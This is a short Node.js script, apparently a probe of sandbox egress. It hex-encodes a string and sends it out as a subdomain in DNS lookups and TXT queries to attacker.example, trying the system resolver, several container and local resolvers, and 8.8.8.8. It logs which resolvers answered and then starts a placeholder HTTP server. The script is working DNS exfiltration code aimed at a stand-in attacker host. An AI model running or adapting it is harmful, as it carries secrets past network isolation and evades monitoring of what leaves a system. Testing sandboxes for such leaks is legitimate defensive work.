// Carries what it knows out in the names it asks for.
import { lookup, Resolver } from 'node:dns/promises'
import { createServer } from 'node:http'

const secret = Buffer.from('what-the-tests-ask').toString('hex')
const asked = [['the system', () => lookup(`${secret}.attacker.example`)]]
for (const server of ['127.0.0.11', '127.0.0.53', '8.8.8.8', '172.17.0.1']) {
  const resolver = new Resolver({ timeout: 400, tries: 1 })
  resolver.setServers([server])
  asked.push([server, () => resolver.resolveTxt(`${secret}.attacker.example`)])
}
await Promise.all(
  asked.map(async ([name, ask]) => {
    try {
      console.log('REACHED', name, await ask())
    } catch (error) {
      // A resolver that says "no such name" was reached, too.
      console.log(error.code === 'ENOTFOUND' && name !== 'the system' ? 'REACHED' : 'no', name, error.code)
    }
  }),
)
console.log('tried')

createServer((request, response) => response.end('{}')).listen(process.env.PORT)
